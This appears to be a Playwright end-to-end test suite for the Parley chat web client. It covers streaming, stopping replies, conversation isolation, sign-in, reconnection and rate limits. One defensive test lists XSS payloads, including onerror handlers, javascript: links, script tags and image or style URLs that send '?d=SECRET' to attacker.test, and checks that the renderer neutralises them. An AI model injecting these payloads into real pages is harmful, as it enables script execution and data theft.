import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join as joinPath } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, afterEach, before, describe, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { ensureModel } from '../../models/ensureModel.js';
import { UserStore } from '../../server/auth/UserStore.js';
import type { ConfigInput } from '../../server/config.js';
import { LlamaEngine } from '../../server/engine/LlamaEngine.js';
import type { GatedEngine } from '../helpers/GatedEngine.js';
import { loadGatedTinyEngine, startTestServer, TEST_INVITE, type TestServer } from '../helpers/startTestServer.js';
import { waitUntil } from '../helpers/waitUntil.js';
import { ARTIFACTS, closeAndCheck, connected, LAN_HOST, lastReplyStatus, launchChromium, openPage, typeAndSend, type GuardedPage } from './browser.js';

/**
 * The web client in Debian's Chromium against a real Parley with the tiny model (which recites
 * "Quiet lanterns glow across the harbor…" forever). Most pages use http://parley.test:<port>,
 * an origin that is not loopback, so the page is not a secure context: no crypto.randomUUID,
 * no navigator.clipboard, exactly like a phone on the LAN. Every page fails its test on a CSP
 * violation, a page error, a dialog or a request to another origin.
 *
 * The engine is behind a Gate (see test/helpers/Gate.ts): a test that needs a reply to be still
 * running, to stop it or to see it streaming, holds the gate, however fast the machine is. The
 * tiny model never ends a reply on its own, so a reply that may finish runs to maxTokens.
 */

const SERVER_CONFIG: ConfigInput = {
  maxTokens: 200,
  generationTimeoutMs: 60_000,
  allowedHosts: [LAN_HOST],
  // Every page comes from 127.0.0.1: lift the per-IP limits meant for real networks.
  tokenRequestsPerMinute: 1000,
  upgradesPerMinute: 1000,
};


let engine: GatedEngine;
let browser: Browser;
let opened: GuardedPage[] = [];

before(async () => {
  [engine, browser] = await Promise.all([loadGatedTinyEngine({ slots: 2, contextSize: 2048 }), launchChromium()]);
});

after(async () => {
  await browser?.close();
  await engine?.dispose();
});

afterEach(async () => {
  // A test that failed with the gate held must not leave the next one hanging.
  engine.gate.open();
  const pages = opened;
  opened = [];
  await closeAndCheck(pages);
});

async function open(origin: string, options: Parameters<typeof openPage>[2] = {}): Promise<GuardedPage> {
  const page = await openPage(browser, origin, options);
  opened.push(page);
  return page;
}

function lanOrigin(server: TestServer): string {
  return `http://${LAN_HOST}:${server.started.port}`;
}

/** Opens the join link, picks a name (keyboard only) and waits for the socket. */
async function join(origin: string, name: string, options: Parameters<typeof openPage>[2] = {}): Promise<GuardedPage> {
  const guarded = await open(origin, options);
  const { page } = guarded;
  await page.goto(`${origin}/#invite=${TEST_INVITE}`);
  const nameInput = page.locator('chat-join input[name=name]');
  await nameInput.fill(name);
  await nameInput.press('Enter');
  await connected(page);
  return guarded;
}

/** Signs in to a named account (`parley user add`) through /api/login, in a fresh context. */
async function login(origin: string, name: string, password: string): Promise<GuardedPage> {
  const guarded = await open(origin);
  const { page } = guarded;
  await page.goto(`${origin}/`);
  await page.locator('chat-join').waitFor();
  const status = await page.evaluate(
    async (body) => {
      const response = await fetch('/api/login', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
      // Kept as the page keeps a sign-in's binding value: the cookie alone refreshes nothing.
      const { refreshBinding } = (await response.json()) as { refreshBinding?: string };
      if (refreshBinding) localStorage.setItem('parley.v1.refreshBinding', refreshBinding);
      return response.status;
    },
    { name, password },
  );
  assert.equal(status, 200);
  await page.reload();
  await connected(page);
  return guarded;
}

/** Waits until the last reply is streaming with more than `length` characters. */
async function waitForStreamingText(page: Page, length: number): Promise<void> {
  await page.waitForFunction(
    (wanted) => {
      const reply = window.__parleyTest.lastReply();
      return reply?.status === 'streaming' && reply.text.length > wanted;
    },
    length,
    { timeout: 30_000, polling: 'raf' },
  );
}

/** Resolves once `count` replies wait at the held gate (Gate.stalled), or fails after 30 s rather than hang. */
async function stalled(count: number): Promise<void> {
  let timer: ReturnType<typeof setTimeout> | undefined;
  try {
    await Promise.race([
      engine.gate.stalled(count),
      new Promise<never>((_, reject) => {
        timer = setTimeout(() => reject(new Error(`${count} replies never waited at the gate together`)), 30_000);
      }),
    ]);
  } finally {
    clearTimeout(timer);
  }
}

/** Sends a message whose reply streams `pieces` pieces and then waits at the gate, and stops it with Esc. */
async function sendAndStop(page: Page, text: string, pieces = 1): Promise<void> {
  engine.gate.hold(pieces);
  await typeAndSend(page, text);
  await lastReplyStatus(page, 'streaming');
  await page.keyboard.press('Escape');
  await lastReplyStatus(page, 'stopped');
}

describe('the web client in Chromium', () => {
  let server: TestServer;
  before(async () => {
    server = await startTestServer('uws', engine, SERVER_CONFIG);
  });
  after(async () => {
    await server?.stop();
  });

  test('joins through the link on a LAN origin that is not a secure context; the invite leaves the address bar', async () => {
    const origin = lanOrigin(server);
    const { page } = await open(origin);
    await page.goto(`${origin}/#invite=${TEST_INVITE}`);
    const inviteInput = page.locator('chat-join input[name=invite]');
    await inviteInput.waitFor();
    assert.equal(await inviteInput.inputValue(), TEST_INVITE);
    assert.ok(!page.url().includes('#'), `the fragment should be gone: ${page.url()}`);
    const context = await page.evaluate(() => ({ secure: window.isSecureContext, uuid: typeof crypto.randomUUID, clipboard: typeof navigator.clipboard }));
    assert.deepEqual(context, { secure: false, uuid: 'undefined', clipboard: 'undefined' });

    await page.locator('chat-join input[name=name]').fill('Ada');
    await page.keyboard.press('Enter');
    await connected(page);
    const header = page.locator('chat-header header');
    assert.match(await header.innerText(), /Parley tiny/);
    assert.match(await header.innerText(), /Ada/);
    // The composer has the focus: the next keystrokes go into a message.
    assert.equal(await page.evaluate(() => window.__parleyTest.all('textarea')[0] === document.activeElement?.shadowRoot?.activeElement?.shadowRoot?.activeElement), true);
  });

  test('Enter sends and Shift+Enter adds a line; the reply renders several times before done, with stats and an announcement', async () => {
    const { page } = await join(lanOrigin(server), 'Streamer');
    const box = page.locator('chat-composer textarea');
    await box.click();
    await page.keyboard.type('first line');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('second line');
    assert.equal(await box.inputValue(), 'first line\nsecond line');
    // The reply streams a few pieces at a time, each batch rendered before the next passes: three
    // renders at least while it streams, however fast the model and the page are.
    engine.gate.hold(0);
    const recording = page.evaluate(() => window.__parleyTest.recordReply(60_000));
    await page.keyboard.press('Enter');
    for (let renders = 1; renders <= 3; renders++) {
      engine.gate.allow(5);
      await page.waitForFunction((wanted) => (window.__parleyTest.recorded?.length ?? 0) >= wanted, renders, { timeout: 30_000, polling: 'raf' });
    }
    engine.gate.open();
    const reply = await recording;
    assert.equal(reply.status, 'done');
    assert.ok(reply.lengths.length >= 3, `expected several renders while streaming, saw ${reply.lengths.length}`);
    assert.ok(reply.lengths.every((length, index) => index === 0 || length > (reply.lengths[index - 1] as number)), 'the text only grows');
    assert.match(reply.text, /^Quiet lanterns glow across the harbor/);
    assert.ok(reply.lengths.at(-1)! <= reply.text.length);

    assert.equal(await box.inputValue(), '', 'the composer is cleared after sending');
    const userMessage = page.locator('chat-message[from=user]').last();
    assert.equal(await userMessage.locator('.body').innerText(), 'first line\nsecond line');
    const stats = await page.locator('chat-message[from=assistant]').last().locator('.stats').innerText();
    assert.match(stats, /tok\/s · first token \d+ ms/);
    // The live region announces the finished reply (once, not per token).
    await page.waitForFunction(() => /^Reply complete/.test(window.__parleyTest.all('.announcer')[0]?.textContent ?? ''));
    // The conversation took its title from the first message.
    assert.match(await page.locator('chat-sidebar li.current .title').innerText(), /^first line/);
  });

  test('Esc stops a reply at once: the partial text stays, marked stopped, and the server frees the slot; so does the Stop button', async () => {
    const { page } = await join(lanOrigin(server), 'Stopper');
    const { scheduler } = server.started.server.chat;
    engine.gate.hold(10);
    await typeAndSend(page, 'tell me a long story');
    await waitForStreamingText(page, 40);
    assert.equal(scheduler.activeCount, 1);
    // More text is on its way when Esc is pressed; the reply still cannot reach its end.
    engine.gate.allow(20);
    await page.keyboard.press('Escape');
    await lastReplyStatus(page, 'stopped');
    await waitUntil(() => scheduler.activeCount === 0, 30_000, 'the slot is free');
    const reply = page.locator('chat-message[from=assistant]').first();
    const partial = await reply.locator('.body').innerText();
    assert.ok(partial.startsWith('Quiet lanterns'), 'the partial reply stays');
    assert.match(await reply.locator('footer').innerText(), /Stopped/);

    engine.gate.hold(1);
    await typeAndSend(page, 'and another');
    await page.waitForFunction(() => window.__parleyTest.lastReply()?.status === 'streaming', undefined, { timeout: 30_000, polling: 'raf' });
    // The new reply's text came after anything the server still sent for the stopped one, on the same socket.
    assert.equal(await reply.locator('.body').innerText(), partial, 'nothing arrives after the stop');
    await page.locator('chat-composer button.stop').click();
    await lastReplyStatus(page, 'stopped');
    await waitUntil(() => scheduler.activeCount === 0, 30_000, 'the slot is free');
  });

  test('two people chat at the same time in separate conversations, and neither ever sees the other', async () => {
    const alice = await join(lanOrigin(server), 'Alice');
    const bob = await join(server.baseUrl, 'Bob');
    const aliceCanary = 'alpha-canary-7f3a';
    const bobCanary = 'bravo-canary-9c1e';
    await alice.page.evaluate((needle) => window.__parleyTest.startWatch(needle), bobCanary);
    await bob.page.evaluate((needle) => window.__parleyTest.startWatch(needle), aliceCanary);
    // Both replies wait at the gate, then get one piece each (the gate takes turns): both stream at the same moment.
    engine.gate.hold(0);
    await Promise.all([typeAndSend(alice.page, `hello from ${aliceCanary}`), typeAndSend(bob.page, `hello from ${bobCanary}`)]);
    await stalled(2);
    engine.gate.allow(2);
    await Promise.all([alice.page, bob.page].map((page) => lastReplyStatus(page, 'streaming')));
    const overlapping = await Promise.all([alice.page, bob.page].map((page) => page.evaluate(() => window.__parleyTest.lastReply()?.status)));
    assert.deepEqual(overlapping, ['streaming', 'streaming']);
    assert.equal(server.started.server.chat.scheduler.activeCount, 2);
    engine.gate.open();
    await Promise.all([alice.page, bob.page].map((page) => lastReplyStatus(page, 'done', 40_000)));

    const [aliceText, bobText] = await Promise.all([alice.page, bob.page].map((page) => page.evaluate(() => window.__parleyTest.text() + JSON.stringify({ ...localStorage }))));
    assert.ok(aliceText!.includes(aliceCanary) && !aliceText!.includes(bobCanary));
    assert.ok(bobText!.includes(bobCanary) && !bobText!.includes(aliceCanary));
    // Watched on every frame since before sending: neither page ever showed the other's text.
    assert.equal(await alice.page.evaluate(() => window.__parleyTest.stopWatch()), false);
    assert.equal(await bob.page.evaluate(() => window.__parleyTest.stopWatch()), false);
    const serverIds = await Promise.all(
      [alice.page, bob.page].map((page) => page.evaluate(() => Object.entries(localStorage).find(([key]) => key.startsWith('parley.v1.conversations.'))?.[1] ?? '')),
    );
    const ids = serverIds.map((raw) => (JSON.parse(raw) as { conversations: Array<{ serverId?: string }> }).conversations[0]?.serverId);
    assert.ok(ids[0] && ids[1] && ids[0] !== ids[1], `separate server conversations: ${ids.join(', ')}`);
  });

  test('conversations: new, switch, rename, delete, a generating marker; regenerate and copy a reply without a clipboard API', async () => {
    const { page, guard } = await join(lanOrigin(server), 'Organiser');
    // The first reply waits at the gate: it is still generating while the second conversation is used.
    engine.gate.hold(1);
    await typeAndSend(page, 'first conversation');
    await lastReplyStatus(page, 'streaming');
    await page.locator('chat-sidebar button.new').click();
    // The first one keeps generating in the background, and the list says so.
    const first = page.locator('chat-sidebar li[data-generating]');
    assert.match(await first.innerText(), /first conversation/);
    assert.equal(await page.locator('chat-message').count(), 0);
    await typeAndSend(page, 'second conversation');
    // Both wait at the gate; one piece each (the gate takes turns), and the second streams.
    await stalled(2);
    engine.gate.allow(2);
    await lastReplyStatus(page, 'streaming');
    await page.keyboard.press('Escape');
    await lastReplyStatus(page, 'stopped');
    assert.equal(await first.count(), 1, 'the first is still generating');

    await first.locator('button.open').click();
    engine.gate.open();
    await lastReplyStatus(page, 'done', 40_000);
    assert.equal(await page.locator('chat-sidebar li[data-generating]').count(), 0);
    assert.match(await page.locator('chat-message[from=user]').first().locator('.body').innerText(), /first conversation/);

    // Copy the whole reply: on this plain-http origin it goes through the textarea fallback.
    const reply = page.locator('chat-message[from=assistant]').last();
    const replyText = await reply.locator('.body').innerText();
    await reply.locator('button.copy').click();
    await reply.locator('button.copy', { hasText: 'Copied' }).waitFor();
    assert.equal(guard.copies.at(-1)?.slice(0, 40), replyText.slice(0, 40));

    // Regenerate replaces the last reply.
    engine.gate.hold(1);
    await reply.locator('button.regenerate').click();
    await lastReplyStatus(page, 'streaming');
    await page.keyboard.press('Escape');
    await lastReplyStatus(page, 'stopped');
    assert.equal(await page.locator('chat-message[from=assistant]').count(), 1);

    // Rename with the keyboard.
    await page.locator('chat-sidebar li.current button.rename-button').click();
    const input = page.locator('chat-sidebar input.rename');
    await input.fill('Harbour notes');
    await input.press('Enter');
    await page.locator('chat-sidebar li.current .title', { hasText: 'Harbour notes' }).waitFor();

    // Delete the other one, confirming.
    const other = page.locator('chat-sidebar li', { hasText: 'second conversation' });
    await other.locator('button.delete').click();
    await page.locator('chat-sidebar button.confirm-delete').click();
    await page.locator('chat-sidebar li', { hasText: 'second conversation' }).waitFor({ state: 'detached' });
    assert.equal(await page.locator('chat-sidebar li[data-id]').count(), 1);
  });

  test('a returning visitor stays signed in through the refresh cookie; signing out ends it', async () => {
    const { page } = await join(lanOrigin(server), 'Returner');
    await sendAndStop(page, 'remember me');
    await page.reload();
    await connected(page);
    assert.equal(await page.locator('chat-join').count(), 0);
    assert.match(await page.locator('chat-sidebar ul').innerText(), /remember me/);
    assert.match(await page.locator('chat-message[from=user]').first().locator('.body').innerText(), /remember me/);

    await page.locator('chat-header button.sign-out').click();
    await page.locator('chat-join').waitFor();
    await page.reload();
    await page.locator('chat-join input[name=name]').waitFor();
    assert.equal(await page.locator('chat-header[state=connected]').count(), 0);
  });

  test('a message over the limit is not sent, and the box says what the limit is', async () => {
    const { page } = await join(server.baseUrl, 'Verbose');
    const limit = 8000;
    await page.locator('chat-composer textarea').fill('x'.repeat(limit + 1));
    assert.match(await page.locator('chat-composer .hint').innerText(), /8,001 \/ 8,000 characters: too long to send/);
    assert.equal(await page.locator('chat-composer button.send').isDisabled(), true);
    await page.locator('chat-composer textarea').press('Enter');
    assert.equal(await page.locator('chat-message').count(), 0);
  });

  test("model output carrying the checklist's XSS payloads runs no script, loads nothing and keeps links safe", async () => {
    const origin = lanOrigin(server);
    const { page, guard } = await open(origin);
    await page.goto(`${origin}/`);
    await page.locator('chat-join').waitFor();
    const payloads = [
      '<img src=x onerror=alert(1)>',
      '<img src=x onerror="window.__pwned=1">',
      '[x](JaVaScRiPt:alert(1))',
      '&#106;avascript:alert(1)',
      '[y](&#106;avascript:alert(1))',
      '<a href="javascript:alert(1)">z</a>',
      '<svg><script>alert(1)</script></svg>',
      '<svg onload=alert(1)>',
      '![](https://attacker.test/?d=SECRET)',
      '![alt](https://attacker.test/pixel.png "t")',
      '<iframe src="https://attacker.test/"></iframe>',
      '<style>@import "https://attacker.test/x.css";</style>',
      '<p style="background:url(https://attacker.test/bg)">styled</p>',
      '[safe link](https://attacker.test/?d=SECRET)',
      '<details open ontoggle=alert(1)>',
    ];
    // Through the same element that renders streamed replies, fed a few characters at a time
    // as a stream would, then in full: each update is sanitised again. Every render is checked
    // as it is made: nothing dangerous is ever in the page, not even for one update, so no load
    // or handler can be on its way once this is done.
    const renders = await page.evaluate(async (texts) => {
      const seen: string[] = [];
      for (const text of [...texts, texts.join('\n\n')]) {
        const element = document.createElement('chat-message') as HTMLElement & { from: string; text: string; status: string; updateComplete: Promise<boolean> };
        element.className = 'probe';
        element.from = 'assistant';
        element.status = 'streaming';
        document.body.append(element);
        const steps: string[] = [];
        for (let end = 1; end < text.length; end += 3) steps.push(text.slice(0, end));
        steps.push(text);
        for (const [index, step] of steps.entries()) {
          element.text = step;
          if (index === steps.length - 1) element.status = 'done';
          await element.updateComplete;
          for (const found of element.shadowRoot!.querySelectorAll('*')) {
            if (['IMG', 'SCRIPT', 'SVG', 'svg', 'IFRAME', 'STYLE', 'DETAILS', 'OBJECT', 'EMBED'].includes(found.tagName)) seen.push(found.tagName);
            seen.push(...found.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style' || name === 'src'));
          }
        }
      }
      return seen;
    }, payloads);
    assert.deepEqual(renders, [], 'no render had anything dangerous in it');

    const found = await page.evaluate(() => {
      const roots = [...document.querySelectorAll('chat-message.probe')].map((element) => element.shadowRoot!);
      const all = roots.flatMap((root) => [...root.querySelectorAll('*')]);
      return {
        pwned: (window as unknown as { __pwned?: number }).__pwned,
        dangerous: all.filter((element) => ['IMG', 'SCRIPT', 'SVG', 'svg', 'IFRAME', 'STYLE', 'DETAILS', 'OBJECT', 'EMBED'].includes(element.tagName)).map((element) => element.tagName),
        handlers: all.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style' || name === 'src')),
        links: roots.flatMap((root) => [...root.querySelectorAll('a')]).map((link) => ({ href: link.getAttribute('href'), rel: link.getAttribute('rel'), target: link.getAttribute('target') })),
        text: roots.map((root) => root.textContent).join('\n'),
        resources: performance.getEntriesByType('resource').map((entry) => entry.name),
      };
    });
    assert.equal(found.pwned, undefined);
    assert.deepEqual(found.dangerous, []);
    assert.deepEqual(found.handlers, []);
    for (const link of found.links) {
      if (link.href === null) continue;
      assert.match(link.href, /^https?:\/\//, `only http(s) links survive: ${link.href}`);
      assert.equal(link.rel, 'noopener noreferrer');
      assert.equal(link.target, '_blank');
    }
    assert.ok(found.links.some((link) => link.href === 'https://attacker.test/?d=SECRET'), 'a plain link stays a link');
    // Raw HTML is shown as text, and images as a placeholder.
    assert.ok(found.text.includes('<img src=x onerror=alert(1)>'));
    assert.ok(found.text.includes('[image not loaded: alt]'));
    assert.ok(!found.resources.some((url) => url.includes('attacker')), `no request to the attacker: ${found.resources.join(', ')}`);
    assert.deepEqual(guard.dialogs, []);
    assert.deepEqual(guard.foreignRequests, []);
    assert.deepEqual(guard.violations, []);
  });

  test('replies render Markdown: lists, tables, and highlighted code blocks with a copy button', async () => {
    const origin = lanOrigin(server);
    const { page, guard } = await open(origin);
    await page.goto(`${origin}/`);
    await page.locator('chat-join').waitFor();
    const markdown = [
      '## Harbour checklist',
      '',
      '1. Mend the nets',
      '2. Light the **lanterns**',
      '',
      '| boat | crew |',
      '| --- | ---: |',
      '| Gull | 3 |',
      '| Heron | 5 |',
      '',
      '```js',
      'const answer = 42;',
      '```',
      '',
      'Inline `code`, a [link](https://example.org/) and a quote:',
      '',
      '> Quiet lanterns glow.',
    ].join('\n');
    await page.evaluate((text) => {
      const element = document.createElement('chat-message') as HTMLElement & { from: string; text: string; status: string };
      element.className = 'markdown-probe';
      element.from = 'assistant';
      element.text = text;
      element.status = 'done';
      document.body.replaceChildren(element);
    }, markdown);
    const probe = page.locator('chat-message.markdown-probe');
    assert.equal(await probe.locator('h2').innerText(), 'Harbour checklist');
    assert.equal(await probe.locator('ol li').count(), 2);
    assert.equal(await probe.locator('table tr').count(), 3);
    assert.equal(await probe.locator('strong').innerText(), 'lanterns');
    assert.equal((await probe.locator('pre code').innerText()).trim(), 'const answer = 42;');
    // Highlighting arrives as a separate chunk, the first time a code block names a language.
    assert.equal(await probe.locator('pre code .hljs-keyword').first().innerText(), 'const');
    assert.equal((await probe.locator('pre code').innerText()).trim(), 'const answer = 42;');
    await probe.locator('button.copy-code').click();
    await probe.locator('button.copy-code', { hasText: 'Copied' }).waitFor();
    assert.equal(guard.copies.at(-1)?.trim(), 'const answer = 42;');
    await page.screenshot({ path: joinPath(ARTIFACTS, 'markdown.png') });
  });

  test('screenshots: desktop (light) and phone (dark); the phone layout fits the screen', async () => {
    const desktop = await join(lanOrigin(server), 'Desk', { viewport: { width: 1280, height: 800 }, colorScheme: 'light' });
    // A few lines of reply (30 pieces) in the picture, stopped.
    await sendAndStop(desktop.page, 'What do the fishermen do?', 30);
    await desktop.page.screenshot({ path: joinPath(ARTIFACTS, 'desktop.png') });

    const phone = await join(lanOrigin(server), 'Phone', {
      viewport: { width: 390, height: 844 },
      deviceScaleFactor: 2,
      isMobile: true,
      hasTouch: true,
      colorScheme: 'dark',
    });
    await sendAndStop(phone.page, 'Tell me about the harbor', 30);
    await phone.page.screenshot({ path: joinPath(ARTIFACTS, 'phone.png') });
    const layout = await phone.page.evaluate(() => {
      const composer = window.__parleyTest.all('chat-composer')[0]!.getBoundingClientRect();
      return { scrollWidth: document.documentElement.scrollWidth, width: window.innerWidth, composerBottom: composer.bottom, height: window.innerHeight };
    });
    assert.ok(layout.scrollWidth <= layout.width, `no sideways scrolling: ${layout.scrollWidth} > ${layout.width}`);
    assert.ok(layout.composerBottom <= layout.height, 'the composer is on screen');
    // The conversation list is a drawer on phones.
    assert.equal(await phone.page.locator('chat-sidebar').isVisible(), false);
    await phone.page.locator('chat-header button.menu').click();
    await phone.page.locator('chat-sidebar').waitFor({ state: 'visible' });
    // The drawer has finished sliding in.
    await phone.page.evaluate(() => Promise.all(window.__parleyTest.all('aside').flatMap((aside) => aside.getAnimations().map((animation) => animation.finished))));
    await phone.page.screenshot({ path: joinPath(ARTIFACTS, 'phone-conversations.png') });
    await phone.page.keyboard.press('Escape');
    await phone.page.locator('chat-sidebar').waitFor({ state: 'hidden' });
  });
});

describe('the web client across a server restart', () => {
  let dataDir: string;
  let server: TestServer | undefined;
  before(async () => {
    dataDir = await mkdtemp(joinPath(tmpdir(), 'parley-e2e-'));
  });
  after(async () => {
    await server?.stop();
    await rm(dataDir, { recursive: true, force: true });
  });

  /** The same port and data dir (signing key, invite, refresh sessions); the port may need a moment. */
  async function startOn(port: number): Promise<TestServer> {
    for (let attempt = 0; ; attempt++) {
      try {
        return await startTestServer('ws', engine, { ...SERVER_CONFIG, port }, { dataDir });
      } catch (error) {
        if (attempt >= 30) throw error;
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
    }
  }

  test('the page shows reconnecting, comes back by itself, and carries on in the same server conversation', async () => {
    server = await startOn(0);
    const port = server.started.port;
    const { page } = await join(`http://${LAN_HOST}:${port}`, 'Survivor');
    await sendAndStop(page, 'before the restart');

    await server.stop();
    server = undefined;
    await page.locator('chat-header[state=reconnecting]').waitFor();
    assert.match(await page.locator('.notice').innerText(), /restarting/i);
    assert.equal(await page.locator('chat-composer button.send').isDisabled(), true);

    server = await startOn(port);
    await connected(page);
    assert.match(await page.locator('.notice').innerText(), /server restarted/i);

    // The server kept the conversation (it is stored): the next message continues it, and nothing says otherwise.
    // Two pieces: "Quiet lanterns".
    await sendAndStop(page, 'after the restart', 2);
    const reply = page.locator('chat-message[from=assistant]').last();
    assert.equal(await reply.locator('.notice').count(), 0);
    assert.match(await reply.locator('.body').innerText(), /^Quiet lanterns/);
    assert.equal(await page.locator('chat-message[from=user]').count(), 2, 'the earlier messages stay on the page');
    const cached = await page.evaluate(() => Object.entries(localStorage).find(([key]) => key.startsWith('parley.v1.conversations.')) ?? ['', '{}']);
    const userId = cached[0].slice('parley.v1.conversations.'.length);
    const conversations = (JSON.parse(cached[1]) as { conversations: Array<{ serverId?: string }> }).conversations;
    assert.equal(conversations.length, 1);
    const stored = await server.started.server.chat.conversations.repository.listMessages(userId, conversations[0]?.serverId ?? '');
    assert.deepEqual(
      stored.map((message) => message.role),
      ['user', 'assistant', 'user', 'assistant'],
      'both exchanges are in the one server conversation',
    );
  });
});

describe('the web client with the demo model, short tokens and tight limits', () => {
  let demoEngine: LlamaEngine;
  let server: TestServer;
  before(async () => {
    const tiny = await ensureModel('tiny');
    // The tiny model flagged as Parley's demo model, the way startServer flags the generated one.
    demoEngine = await LlamaEngine.load({ modelPath: tiny.path, demo: true, threads: 1, slots: 1, contextSize: 1024, temperature: 0 });
    server = await startTestServer('uws', demoEngine, { ...SERVER_CONFIG, maxTokens: 24, generationsPerMinute: 1, tokenTtlSeconds: 10 });
  });
  after(async () => {
    await server?.stop();
    await demoEngine?.dispose();
  });

  test('the page says plainly that this is the demo model', async () => {
    const { page } = await join(lanOrigin(server), 'Curious');
    assert.match(await page.locator('chat-header .demo').innerText(), /demo model/);
    assert.match(await page.locator('.demo-banner').innerText(), /Parley's demo model.*not an assistant/s);
  });

  test('a rate-limited message says so, with the time to wait', async () => {
    const { page } = await join(lanOrigin(server), 'Hasty');
    await typeAndSend(page, 'one');
    await lastReplyStatus(page, 'done');
    await typeAndSend(page, 'two');
    await lastReplyStatus(page, 'error');
    const footer = await page.locator('chat-message[from=assistant]').last().locator('footer').innerText();
    assert.match(footer, /Rate limit reached\. Try again in \d+ s\./);
  });

  test('the token is refreshed in the background and in-band: the socket outlives its first token', async () => {
    // A named account: its reply budget is its own. An invite user's is also its address's, which
    // the rate-limited test above has spent for this minute (every page comes from 127.0.0.1).
    await new UserStore(server.dataDir).add('patient', 'patient-pass-PARLEY-1618');
    const { page } = await login(lanOrigin(server), 'patient', 'patient-pass-PARLEY-1618');
    // The first token, issued while joining, lives 10 s: it has run out by then.
    const firstTokenGone = Date.now() + 10_000;
    await page.evaluate(() => window.__parleyTest.startWatch('Reconnecting'));
    const opened = server.logs.records.filter((record) => record.msg === 'connection opened');
    assert.ok(opened.length >= 1);
    const socket = opened.at(-1)?.conn;
    // The page gets a fresh token through the cookie and hands it to its socket in-band.
    await waitUntil(() => server.logs.records.some((record) => record.event === 'socket_token_refreshed' && record.conn === socket), 30_000, 'the socket got a fresh token');
    // The server closes a socket whose token ran out (4401): outlive the first token, then make a
    // round trip on the socket, by which time a close due at that token's end would have come.
    await sleep(Math.max(0, firstTokenGone - Date.now()));
    await typeAndSend(page, 'still here');
    await lastReplyStatus(page, 'done');
    assert.equal(await page.evaluate(() => window.__parleyTest.stopWatch()), false, 'the page never had to reconnect');
    assert.equal(server.logs.records.filter((record) => record.msg === 'connection opened').length, opened.length, 'no new socket');
    assert.ok(server.logs.records.some((record) => record.event === 'token_refreshed'), 'the cookie refreshed the token');
  });
});
